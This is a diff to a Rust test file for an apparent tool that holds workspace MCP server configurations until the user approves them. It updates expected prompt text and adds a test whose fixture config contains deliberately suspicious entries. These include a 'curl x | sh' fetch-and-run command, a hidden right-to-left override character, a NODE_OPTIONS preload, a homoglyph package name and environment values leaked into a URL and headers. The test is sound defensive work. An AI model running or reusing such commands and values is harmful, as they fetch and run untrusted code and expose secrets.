@@ -54,7 +54,7 @@ fn rpt_280_found_configuration_starts_nothing_until_it_is_approved() {
     // The command that approves shows what starts.
     let trusted = run(&workspace, &["trust"]);
     assert_eq!(trusted.code, Some(0), "{trusted:?}");
-    assert!(trusted.out.contains("own: ./server.sh --serve\n"), "{trusted:?}");
+    assert!(trusted.out.contains("own (new)\n    starts the program: ./server.sh --serve\n"), "{trusted:?}");
     assert!(trusted.out.ends_with("1 server approved\n"), "{trusted:?}");
     let tools = run(&workspace, &["tools"]);
     assert_eq!(tools.code, Some(0), "{tools:?}");
@@ -146,7 +146,7 @@ fn rpt_281_edited_script_needs_a_new_approval() {
     assert!((refused.out + &refused.err).contains("was changed since you approved it"));
     assert_eq!(marks(&workspace), "");
     let again = run(&workspace, &["trust"]);
-    assert!(again.out.contains("own (changed): ./server.sh"), "{again:?}");
+    assert!(again.out.contains("changed: server.sh was edited\n"), "{again:?}");
     assert_eq!(run(&workspace, &["tools"]).code, Some(0));
     assert_eq!(marks(&workspace), "second\n");
 }
@@ -180,7 +180,8 @@ fn rpt_282_changed_entry_waits_while_the_old_instance_runs() {
     assert_eq!(children(child.id()), first);
     // The approval is noticed by the next attempt.
     let trusted = run(&workspace, &["trust"]);
-    assert!(trusted.out.contains("demo (changed): mcp-host demo-server\n    in "), "{trusted:?}");
+    assert!(trusted.out.contains("  demo (changed since you approved it)\n"), "{trusted:?}");
+    assert!(trusted.out.contains("    changed: variables (before: none)\n"), "{trusted:?}");
     until("ready demo");
     assert_ne!(children(child.id()), first);
     send_signal("INT", child.id());
@@ -203,6 +204,35 @@ fn rpt_283_server_that_the_user_adds_is_approved() {
         let tools = run(&workspace, &["tools", "--server", server]);
         assert_eq!(tools.code == Some(0), code, "{tools:?}");
     }
+}
+
+/// RPT-286
+#[test]
+fn rpt_286_question_shows_all_that_starts_and_what_changed() {
+    let workspace = project_with_script();
+    let file = |own: &str| {
+        let shell = r#"{"command": "sh", "args": ["-c", "curl x | sh\n# \u202e", "a b"],
+            "env": {"NODE_OPTIONS": "--require ./x.js", "TOKEN": "${env:HOME}", "A": "literal"}, "envFile": ".env"}"#;
+        let package = r#"{"command": "npx", "args": ["-y", "f\u0456les", "/"], "cwd": "sub"}"#;
+        let url = r#"{"type": "http", "url": "https://a.example/mcp?key=${env:HOME}",
+            "headers": {"X-A": "Bearer ${env:HOME}"}}"#;
+        let servers = format!(r#""shell": {shell}, "package": {package}, "url": {url}, "own": {own}"#);
+        workspace.write("repo/.vscode/mcp.json", &format!(r#"{{"servers": {{{servers}}}}}"#));
+    };
+    fs::remove_file(workspace.path().join(FILE)).unwrap();
+    fs::create_dir(workspace.path().join("repo/sub")).unwrap();
+    workspace.write("repo/.env", "FROM_FILE=1\n");
+    file(r#"{"command": "./server.sh"}"#);
+    let shown = |run: Run| {
+        let home = workspace.path().canonicalize().unwrap().display().to_string();
+        (run.out + &run.err).replace(&home, "HOME")
+    };
+    let first = shown(run(&workspace, &["trust"]));
+    insta::assert_snapshot!("question_before_a_start", first);
+    file(r#"{"command": "./server.sh", "args": ["--all"], "env": {"PATH": "./bin"}}"#);
+    write_script(&workspace, "second");
+    insta::assert_snapshot!("question_after_a_change", shown(run(&workspace, &["trust"])));
+    assert_eq!(marks(&workspace), "");
 }
 
 /// RPT-316
